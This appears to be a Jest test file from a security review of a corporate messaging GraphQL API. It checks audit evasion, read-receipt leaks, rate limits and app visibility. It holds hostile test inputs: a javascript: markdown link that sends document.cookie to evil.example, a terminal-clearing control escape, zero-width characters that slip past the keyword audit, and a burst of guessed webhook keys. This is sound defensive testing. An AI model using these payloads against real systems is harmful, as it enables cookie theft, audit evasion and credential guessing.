import type { Client as WsClient } from "graphql-ws";
import { TestGateway, expectOneError, pk, type TestApp, type TestCorp, type Untyped } from "./harness";
import { fanoutOf } from "../src/http/websocket";
import { toGlobalId } from "../src/schema/global-id";

/**
 * Review of issue 14 (messaging, group robots, compliance audit, the subscription fan-out), by an
 * outside reviewer. Each `it.failing` is a finding (see the report): it fails today and passes once
 * fixed, then becomes a plain `it`. The plain `it`s are attacks that hold and should keep holding.
 *
 *  1. sendAppMessage bypassed the compliance audit (no message_audit_hit for an app message); fixed
 *     in the shared working tree while this review ran (a plain `it` now).
 *  2. MessageRead events carry every member's read pointer to every member of the conversation,
 *     while `readReceipt` is for the sender only.
 *  3. The compliance audit is evaded with a zero-width space or a soft hyphen inside a word; fixed
 *     (keys drop default-ignorable characters, a plain `it` now).
 *  4. C1 control characters (U+0080–U+009F, e.g. U+009B CSI) pass the free-text check.
 *  5. Two concurrent remindUnread of one message: the loser is INTERNAL_SERVER_ERROR, not LIMIT_EXCEEDED.
 *  6. A messageEvents subscriber of the whole corp stream loads every unknown conversation one by
 *     one: an app message to N members costs every bystander N statements.
 *  7. Form answers (free text) escape the compliance audit; fixed (submitForm records them, a plain `it` now).
 *  8. Markdown accepts javascript: links, where every other URL field must be https.
 *  9. An app keeps reading (history and live) the APP conversation of a member who left its
 *     visibility, although it may no longer send into it.
 * 10. unreadCount keeps counting messages the retention job purged.
 * 11. POST /hooks/bots/:key has no per-address throttle: unknown keys are parsed and looked up without limit;
 *     fixed (30 unknown keys a minute per address, then 429 before the body is read; a plain `it` now).
 * 12. Keyword auto-replies bypass the robot's 20-a-minute limit (any member drives the robot); fixed
 *     (a reply pays from the robot's bucket, past it the robot stays silent; a plain `it` now).
 */

const CREATE_GROUP = `mutation($input: CreateGroupInput!) { createGroup(input: $input) { conversation { id } } }`;
const SEND = `mutation($input: SendMessageInput!) { sendMessage(input: $input) { message { id seq } } }`;
const SEND_APP = `mutation($input: SendAppMessageInput!) {
  sendAppMessage(input: $input) { deduplicated messageCount invalidMemberIds invalidDepartmentIds messages(first: 100) { nodes { id conversationId } } }
}`;
const SET_WORDS = `mutation($input: SetSensitiveWordsInput!) { setSensitiveWords(input: $input) { count } }`;
const MARK_READ = `mutation($input: MarkReadInput!) { markRead(input: $input) { conversation { unreadCount } } }`;
const REMIND = `mutation($input: RemindUnreadInput!) { remindUnread(input: $input) { remindedCount } }`;
const RECALL = `mutation($input: RecallMessageInput!) { recallMessage(input: $input) { message { id recalledAt } } }`;
const REMOVE = `mutation($input: RemoveGroupMembersInput!) { removeGroupMembers(input: $input) { removedCount } }`;
const CREATE_BOT = `mutation($input: CreateGroupBotInput!) { createGroupBot(input: $input) { bot { id } webhookUrl } }`;
const ROTATE_BOT = `mutation($input: RotateGroupBotKeyInput!) { rotateGroupBotKey(input: $input) { webhookUrl } }`;
const EVENTS = `subscription($c: ID, $after: String) {
  messageEvents(conversationId: $c, after: $after) {
    __typename cursor type conversationId notify
    ... on MessageAdded { message { seq content { ... on TextContent { content } } } }
    ... on MessageRead { memberId upToSeq }
    ... on MembershipChanged { addedMemberIds removedMemberIds }
  }
}`;
const DIRECTORY_EVENTS = `subscription { directoryEvents { cursor type member { name } } }`;

describe("review of issue 14", () => {
  let gw: TestGateway;
  let corp: TestCorp;
  let beta: TestCorp;
  let messagingApp: TestApp;
  let auditApp: TestApp;
  let sales: string;
  let eng: string;
  const m: Record<string, string> = {};
  const t: Record<string, string> = {};
  let betaMember: string;
  let betaToken: string;
  const clients: WsClient[] = [];
  let n = 0;

  const client = (token: string) => {
    const c = gw.wsClient(token);
    clients.push(c);
    return c;
  };
  const group = async (token: string, name: string, memberIds: string[]) =>
    (await gw.data(token, CREATE_GROUP, { input: { name, memberIds } })).createGroup.conversation.id as string;
  const send = async (token: string, conversationId: string, content: Record<string, unknown>) =>
    (await gw.data(token, SEND, { input: { conversationId, clientMessageId: `r-${++n}`, ...content } })).sendMessage.message as { id: string; seq: number };
  const hitsOf = async (messageIds: string[]) =>
    (await gw.sql(`SELECT count(*)::int AS n FROM message_audit_hit WHERE message_id = ANY($1::bigint[])`, [messageIds.map(pk)]))[0].n as number;
  const sleep = (ms: number) => new Promise((r) => setTimeout(r, ms));

  beforeAll(async () => {
    gw = await TestGateway.start({ SUBSCRIPTION_RECHECK_SECONDS: "1" });
    corp = await gw.createCorp("Acme");
    sales = await gw.createDepartment(corp.token, { name: "Sales" });
    eng = await gw.createDepartment(corp.token, { name: "Engineering" });
    for (const [name, dept, extra] of [
      ["admin", corp.rootId, { isCorpAdmin: true }],
      ["alice", sales, {}],
      ["bob", sales, {}],
      ["carol", sales, {}],
      ["erin", eng, {}],
      ["frank", eng, {}],
    ] as const) {
      m[name] = await gw.createMember(corp.token, { employeeId: name, name, departmentIds: [dept], status: "ACTIVE", ...extra });
      t[name] = gw.memberToken(corp.corpPk, { clientId: corp.clientId }, pk(m[name]));
    }
    messagingApp = await gw.createApp(corp.corpPk, ["messages:read", "messages:send", "directory:read"]);
    auditApp = await gw.createApp(corp.corpPk, ["messages:audit"]);
    await gw.data(auditApp.token, SET_WORDS, { input: { words: ["leak", "secret"] } });
    beta = await gw.createCorp("Beta");
    betaMember = await gw.createMember(beta.token, { employeeId: "alice", name: "Beta Alice", departmentIds: [beta.rootId], status: "ACTIVE" });
    betaToken = gw.memberToken(beta.corpPk, { clientId: beta.clientId }, pk(betaMember));
  }, 30000);
  afterEach(async () => {
    await Promise.all(clients.splice(0).map((c) => c.dispose()));
  });
  afterAll(() => gw.stop());

  describe("findings", () => {
    it("FINDING 1 (fixed in the working tree during the review: AppMessageService.send calls recordMany): an app message containing a sensitive word is recorded by the compliance audit", async () => {
      const res = await gw.data(messagingApp.token, SEND_APP, {
        input: { to: { memberIds: [m.alice, m.bob] }, message: { text: { content: "leak of the Q3 numbers" } } },
      });
      expect(res.sendAppMessage.messageCount).toBe(2);
      // One hit per message, as sendMessage, robots and member messages record (test/message-audit.test.ts).
      expect(await hitsOf(res.sendAppMessage.messages.nodes.map((x: { id: string }) => x.id))).toBe(2);
    });

    it("FINDING 2: a member who neither sent nor read a message does not receive another member's MessageRead", async () => {
      const g = await group(t.alice, "Receipts", [m.bob, m.carol]);
      const carol = gw.subscribe(client(t.carol), EVENTS, { c: g, after: await gw.eventMark(corp.corpPk) });
      const first = await send(t.alice, g, { text: { content: "first" } });
      await gw.data(t.bob, MARK_READ, { input: { conversationId: g, upToSeq: first.seq } });
      await send(t.alice, g, { text: { content: "marker" } });
      const seen = await carol.waitFor(2);
      await sleep(200);
      // The read receipt is the sender's only (Carol's readReceipt is null, see the holds below); the
      // stream must not hand Carol, event by event, the read pointer of every other member.
      expect(seen.map((r) => r.data.messageEvents.__typename)).toEqual(["MessageAdded", "MessageAdded"]);
      carol.stop();
    });

    it("FINDING 3: a zero-width space or a soft hyphen inside a sensitive word does not evade the audit", async () => {
      const g = await group(t.alice, "Evasion", [m.bob]);
      const zw = await send(t.alice, g, { text: { content: "the le\u200Bak is tonight" } });
      const shy = await send(t.alice, g, { markdown: { content: "**se\u00ADcret** plan" } });
      expect(await hitsOf([zw.id])).toBe(1);
      expect(await hitsOf([shy.id])).toBe(1);
    });

    it("FINDING 4: C1 control characters (U+0080–U+009F) are refused in free text like the C0 ones", async () => {
      const g = await group(t.alice, "Controls", [m.bob]);
      // U+009B is the 8-bit CSI: "\u009b2J" clears a terminal that shows the message (a log viewer, a CLI client).
      const res = await gw.gql(t.alice, SEND, { input: { conversationId: g, clientMessageId: "c1", text: { content: "hi\u009b2J\u0085there" } } });
      expectOneError(res, "BAD_USER_INPUT", "input.text.content");
    });

    it("FINDING 5: concurrent remindUnread of one message: one reminds, the other is LIMIT_EXCEEDED, never an internal error", async () => {
      const g = await group(t.alice, "Reminders", [m.bob, m.carol]);
      const codes: string[] = [];
      for (let i = 0; i < 8; i++) {
        const msg = await send(t.alice, g, { text: { content: `please read ${i}` } });
        const both = await Promise.all([0, 1].map(() => gw.gql(t.alice, REMIND, { input: { messageId: msg.id } })));
        for (const r of both) codes.push(r.body.errors?.[0]?.extensions?.code ?? "OK");
      }
      expect(codes.filter((c) => c !== "OK" && c !== "LIMIT_EXCEEDED")).toEqual([]);
    });

    it("FINDING 6: an app message to N members costs a bystander's messageEvents subscription O(1) statements, not N", async () => {
      const crowd: string[] = [];
      for (let i = 0; i < 30; i++) {
        crowd.push(await gw.createMember(corp.token, { employeeId: `crowd-${i}`, name: `Crowd ${i}`, departmentIds: [sales], status: "ACTIVE" }));
      }
      const g = await group(t.erin, "Bystander", [m.frank]);
      const erin = gw.subscribe(client(t.erin), EVENTS, { after: await gw.eventMark(corp.corpPk) });
      await send(t.frank, g, { text: { content: "warm-up" } });
      await erin.waitFor(1);
      const loads = jest.spyOn(gw.deps.services.conversations, "load");
      try {
        const res = await gw.data(messagingApp.token, SEND_APP, { input: { to: { memberIds: crowd }, message: { text: { content: "all hands" } } } });
        expect(res.sendAppMessage.messageCount).toBe(30);
        await send(t.frank, g, { text: { content: "marker" } });
        await erin.waitFor(2);
        // Erin takes part in none of the 30 new APP conversations; today her stream loads each of them.
        expect(loads.mock.calls.length).toBeLessThan(10);
      } finally {
        loads.mockRestore();
        erin.stop();
      }
    });
    it("FINDING 6b: groups a bystander is not in cost their messageEvents subscription one load each", async () => {
      const g = await group(t.erin, "Bystander 2", [m.frank]);
      const erin = gw.subscribe(client(t.erin), EVENTS, { after: await gw.eventMark(corp.corpPk) });
      await send(t.frank, g, { text: { content: "warm-up" } });
      await erin.waitFor(1);
      const loads = jest.spyOn(gw.deps.services.conversations, "load");
      try {
        const others: string[] = [];
        for (let i = 0; i < 30; i++) others.push(pk(await group(t.alice, `Other ${i}`, [m.bob])));
        await send(t.frank, g, { text: { content: "marker" } });
        await erin.waitFor(2);
        // The loads made as Erin (her stream) of conversations she is not in: one per group of others, today.
        const strangers = loads.mock.calls.filter(
          ([ctx, conversationPk]) => (ctx as Untyped).caller.member?.id === pk(m.erin) && others.includes(String(conversationPk)),
        ).length;
        expect(strangers).toBeLessThan(10);
      } finally {
        loads.mockRestore();
        erin.stop();
      }
    });

    it("FINDING 7: a sensitive word typed into a form answer is recorded by the compliance audit", async () => {
      const g = await group(t.alice, "Survey", [m.bob]);
      const form = await send(t.alice, g, { form: { title: "Feedback", fields: [{ label: "Anything else?", type: "TEXT" }] } });
      await gw.data(t.bob, `mutation($input: SubmitFormInput!) { submitForm(input: $input) { message { id } } }`, {
        input: { messageId: form.id, answers: [{ fieldIndex: 0, text: "the leak came from finance" }] },
      });
      // 2,000 characters a field, 20 fields, read by the form's sender: free text like a message's.
      const rows = await gw.sql(`SELECT word FROM message_audit_hit WHERE sender_member_id = $1 AND word = 'leak'`, [pk(m.bob)]);
      expect(rows).toHaveLength(1);
    });

    it("FINDING 8: markdown (from a member or a robot's webhook) may not carry a javascript: link", async () => {
      const g = await group(t.alice, "Links", [m.bob]);
      const res = await gw.gql(t.alice, SEND, {
        input: { conversationId: g, clientMessageId: "js-1", markdown: { content: "[Open the report](javascript:fetch('//evil.example/'+document.cookie))" } },
      });
      // linkCard, image and file URLs must be https (domain/messaging.ts httpsUrl); a markdown link is a URL too.
      expectOneError(res, "BAD_USER_INPUT", "input.markdown.content");
    });
    it("FINDING 9: an app no longer reads the APP conversation of a member who left its visibility (as it may no longer send into it)", async () => {
      const salesApp = await gw.createApp(corp.corpPk, ["messages:read", "messages:send"], [pk(sales)]);
      const mover = await gw.createMember(corp.token, { employeeId: "mover", name: "Mover", departmentIds: [sales], status: "ACTIVE" });
      const sent = await gw.data(salesApp.token, SEND_APP, { input: { to: { memberIds: [mover] }, message: { text: { content: "Welcome" } } } });
      const conversationId = sent.sendAppMessage.messages.nodes[0].conversationId;
      await gw.data(corp.token, `mutation($input: UpdateMemberInput!) { updateMember(input: $input) { member { id } } }`, {
        input: { id: mover, departmentIds: [eng], mainDepartmentId: eng },
      });
      // The member, now outside the app's visibility, writes into the conversation.
      await send(gw.memberToken(corp.corpPk, { clientId: corp.clientId }, pk(mover)), conversationId, { text: { content: "I moved to the secret project" } });
      // sendMessage says this conversation does not exist for the app (test/app-messages.test.ts); reading it must agree.
      const history = await gw.gql(
        salesApp.token,
        `query($c: ID!) { messages(conversationId: $c, last: 10) { nodes { content { ... on TextContent { content } } } } }`,
        {
          c: conversationId,
        },
      );
      expect(JSON.stringify(history.body)).not.toContain("secret project");
      expectOneError(history, "NOT_FOUND", "conversationId");
    });
    it("FINDING 10: after the 90-day retention purged a conversation's unread messages, its unreadCount no longer counts them", async () => {
      const g = await group(t.alice, "Old news", [m.carol]);
      for (const word of ["one", "two", "three"]) await send(t.alice, g, { text: { content: word } });
      await gw.sql(`UPDATE message SET created_at = now() - interval '91 days' WHERE conversation_id = $1`, [pk(g)]);
      const retention = gw.deps.services.messageRetention as unknown as { purge(batch?: number): Promise<number> };
      expect(await retention.purge()).toBe(3);
      const q = `query($id: ID!) { conversation(id: $id) { unreadCount lastSeq } messages(conversationId: $id) { totalCount } }`;
      const seen = await gw.data(t.carol, q, { id: g });
      expect(seen.messages.totalCount).toBe(0);
      // Three unread that can never be read (markRead up to 3 is the only way to clear the badge).
      expect(seen.conversation).toEqual({ unreadCount: 0, lastSeq: 3 });
    });
    it("FINDING 12: keyword auto-replies count against the robot's 20 messages a minute", async () => {
      const g = await group(t.alice, "Echo", [m.bob]);
      const { bot } = (await gw.data(t.alice, CREATE_BOT, { input: { conversationId: g, name: "Echo" } })).createGroupBot;
      await gw.data(t.alice, `mutation($input: CreateAutoReplyRuleInput!) { createAutoReplyRule(input: $input) { __typename } }`, {
        input: { botId: bot.id, keyword: "ping", reply: "pong, and a 4,000-character wall of text could go here" },
      });
      // Any member of the group drives the robot: 30 "ping"s in a few seconds make it post 30 times.
      for (let i = 0; i < 30; i++) await send(t.bob, g, { text: { content: `ping ${i}` } });
      const [row] = await gw.sql(`SELECT count(*)::int AS n FROM message WHERE sender_bot_id = $1`, [pk(bot.id)]);
      expect(row.n).toBeLessThanOrEqual(20);
    });
  });

  describe("holds", () => {
    it("the audit records members' and apps' own sends (the control for findings 1 and 3)", async () => {
      const g = await gw.data(messagingApp.token, CREATE_GROUP, { input: { name: "Audited", ownerId: m.alice, memberIds: [m.bob] } });
      const conversationId = g.createGroup.conversation.id;
      const a = await send(t.alice, conversationId, { text: { content: "the LEAK is tonight" } });
      const b = await send(messagingApp.token, conversationId, { text: { content: "ＳＥＣＲＥＴ" } });
      expect(await hitsOf([a.id])).toBe(1);
      expect(await hitsOf([b.id])).toBe(1);
    });

    it("the read receipt itself is the sender's only", async () => {
      const g = await group(t.alice, "Receipt owner", [m.bob, m.carol]);
      const msg = await send(t.alice, g, { text: { content: "hello" } });
      const q = `query($id: ID!) { message(id: $id) { readReceipt { readCount unreadCount } } }`;
      expect((await gw.data(t.alice, q, { id: msg.id })).message.readReceipt).toEqual({ readCount: 0, unreadCount: 2 });
      expect((await gw.data(t.carol, q, { id: msg.id })).message.readReceipt).toBeNull();
    });

    it("sendMessage is idempotent under concurrency: one row for 6 identical sends, one winner among 4 different ones", async () => {
      const g = await group(t.alice, "Races", [m.bob]);
      const same = await Promise.all(
        Array.from({ length: 6 }, () => gw.gql(t.alice, SEND, { input: { conversationId: g, clientMessageId: "dup-1", text: { content: "once" } } })),
      );
      expect(new Set(same.map((r) => r.body.data?.sendMessage?.message?.id)).size).toBe(1);
      const different = await Promise.all(
        [1, 2, 3, 4].map((i) => gw.gql(t.alice, SEND, { input: { conversationId: g, clientMessageId: "dup-2", text: { content: `version ${i}` } } })),
      );
      const codes = different.map((r) => r.body.errors?.[0]?.extensions?.code ?? "OK").sort();
      expect(codes).toEqual(["CONFLICT", "CONFLICT", "CONFLICT", "OK"]);
      expect((await gw.sql(`SELECT count(*)::int AS n FROM message WHERE conversation_id = $1`, [pk(g)]))[0].n).toBe(2);
    });

    it("another corp's and another member's ids: nothing seen, nothing done, no existence revealed", async () => {
      const g = await group(t.alice, "Private", [m.bob]);
      const msg = await send(t.alice, g, { text: { content: "private" } });
      expect((await gw.data(betaToken, `query($id: ID!) { conversation(id: $id) { id } }`, { id: g })).conversation).toBeNull();
      expect((await gw.data(betaToken, `query($id: ID!) { message(id: $id) { id } }`, { id: msg.id })).message).toBeNull();
      expectOneError(await gw.gql(betaToken, `query($c: ID!) { messages(conversationId: $c) { totalCount } }`, { c: g }), "NOT_FOUND", "conversationId");
      expectOneError(await gw.gql(betaToken, RECALL, { input: { id: msg.id } }), "NOT_FOUND", "input.id");
      expectOneError(await gw.gql(t.erin, RECALL, { input: { id: msg.id } }), "NOT_FOUND", "input.id");
      expectOneError(await gw.gql(t.bob, RECALL, { input: { id: msg.id } }), "FORBIDDEN");
      // An app message: another corp's member and an id that names no one are reported alike.
      const ghost = toGlobalId("Member", "999999999");
      const res = await gw.data(messagingApp.token, SEND_APP, { input: { to: { memberIds: [betaMember, ghost] }, message: { text: { content: "x" } } } });
      expect(res.sendAppMessage.messageCount).toBe(0);
      expect([...res.sendAppMessage.invalidMemberIds].sort()).toEqual([betaMember, ghost].sort());
    });

    it("a removed member resuming from a cursor of before the removal receives only the removal", async () => {
      const g = await group(t.alice, "Resume", [m.bob, m.carol]);
      const mark = await gw.eventMark(corp.corpPk);
      await send(t.alice, g, { text: { content: "before" } });
      await gw.data(t.alice, REMOVE, { input: { id: g, memberIds: [m.bob] } });
      await send(t.alice, g, { text: { content: "after" } });
      const bob = gw.subscribe(client(t.bob), EVENTS, { after: mark });
      const seen = await bob.waitFor(1);
      await sleep(300);
      expect(seen.map((r) => r.data.messageEvents.__typename)).toEqual(["MembershipChanged"]);
      expect(seen[0].data.messageEvents.removedMemberIds).toEqual([m.bob]);
      bob.stop();
    });

    it("a robot's 20-a-minute bucket survives a key rotation; another group's owner cannot rotate its key", async () => {
      const g = await group(t.alice, "Robots", [m.bob]);
      const other = await group(t.carol, "Other robots", [m.erin]);
      const { bot, webhookUrl } = (await gw.data(t.alice, CREATE_BOT, { input: { conversationId: g, name: "CI" } })).createGroupBot;
      const post = (url: string) =>
        fetch(`${gw.url}${new URL(url).pathname}`, { method: "POST", body: JSON.stringify({ msgtype: "text", text: { content: "build green" } }) });
      for (let i = 0; i < 20; i++) expect((await post(webhookUrl)).status).toBe(200);
      const rotated = (await gw.data(t.alice, ROTATE_BOT, { input: { id: bot.id } })).rotateGroupBotKey.webhookUrl;
      expect((await post(webhookUrl)).status).toBe(404);
      const limited = await post(rotated);
      expect(limited.status).toBe(429);
      expect(await limited.json()).toMatchObject({ errcode: 45009 });
      expectOneError(await gw.gql(t.carol, ROTATE_BOT, { input: { id: bot.id } }), "NOT_FOUND", "input.id");
      expectOneError(await gw.gql(t.bob, ROTATE_BOT, { input: { id: bot.id } }), "FORBIDDEN");
      expect(other).toBeTruthy();
    });

    it("the 10,000-member cap holds under concurrent addGroupMembers (the group row is locked)", async () => {
      const g = await group(t.alice, "Crowded", [m.bob]);
      // The service counts with conversation.member_count: a group one short of the cap, without 9,998 rows.
      await gw.sql(`UPDATE conversation SET member_count = 9999 WHERE id = $1`, [pk(g)]);
      const add = (who: string) =>
        gw.gql(t.alice, `mutation($input: AddGroupMembersInput!) { addGroupMembers(input: $input) { addedCount } }`, { input: { id: g, memberIds: [who] } });
      const results = await Promise.all([add(m.carol), add(m.erin), add(m.frank)]);
      const codes = results.map((r) => r.body.errors?.[0]?.extensions?.code ?? "OK").sort();
      expect(codes).toEqual(["LIMIT_EXCEEDED", "LIMIT_EXCEEDED", "OK"]);
      expect((await gw.sql(`SELECT member_count FROM conversation WHERE id = $1`, [pk(g)]))[0].member_count).toBe(10000);
      expect((await gw.sql(`SELECT count(*)::int AS n FROM conversation_member WHERE conversation_id = $1`, [pk(g)]))[0].n).toBe(3);
    });

    it("fan-out: a member whose sessions are revoked is dropped from the shared group; the others keep receiving; nothing leaks", async () => {
      const hub = fanoutOf(gw.gateway.httpServer)!;
      const dirApp = await gw.createApp(corp.corpPk, ["directory:read"]);
      const tok = (name: string) => gw.memberToken(corp.corpPk, dirApp, pk(m[name]), ["directory:read"]);
      const bob = gw.subscribe(client(tok("bob")), DIRECTORY_EVENTS);
      const carol = gw.subscribe(client(tok("carol")), DIRECTORY_EVENTS);
      const deadline = Date.now() + 10000;
      while (hub.size.live < 2 && Date.now() < deadline) await sleep(20);
      expect(hub.size).toMatchObject({ groups: 1, live: 2 }); // same app, role and visibility: one execution
      await gw.data(corp.token, `mutation($input: UpdateMemberInput!) { updateMember(input: $input) { member { id } } }`, {
        input: { id: m.frank, title: "One" },
      });
      await Promise.all([bob.waitFor(1), carol.waitFor(1)]);
      await gw.data(corp.token, `mutation($input: MemberIdInput!) { revokeMemberSessions(input: $input) { __typename } }`, { input: { memberId: m.bob } });
      await sleep(1500); // past SUBSCRIPTION_RECHECK_SECONDS
      await gw.data(corp.token, `mutation($input: UpdateMemberInput!) { updateMember(input: $input) { member { id } } }`, {
        input: { id: m.frank, title: "Two" },
      });
      await carol.waitFor(2);
      const until = Date.now() + 5000;
      while (!bob.completed && Date.now() < until) await sleep(20);
      expect(bob.results).toHaveLength(1);
      expect(bob.completed).toBe(true);
      carol.stop();
      const gone = Date.now() + 5000;
      while (hub.size.subscribers > 0 && Date.now() < gone) await sleep(20);
      expect(hub.size).toEqual({ channels: 0, groups: 0, subscribers: 0, live: 0 });
    });
  });
  // Last: its burst of unknown keys would otherwise get this address refused by the robot tests above.
  describe("address throttle", () => {
    it("FINDING 11: unknown robot keys are throttled per client address, like the other credential endpoints", async () => {
      const statuses: number[] = [];
      for (let round = 0; round < 8; round++) {
        const batch = await Promise.all(
          Array.from({ length: 50 }, (_, i) =>
            fetch(`${gw.url}/hooks/bots/guess${round}x${i}${"A".repeat(40)}`, {
              method: "POST",
              body: JSON.stringify({ msgtype: "text", text: { content: "x".repeat(4000) } }),
            }).then((r) => r.status),
          ),
        );
        statuses.push(...batch);
      }
      // 400 guesses from one address in well under a minute: each read, parsed and looked up, none refused early.
      expect(statuses).toContain(429);
    });
  });
});
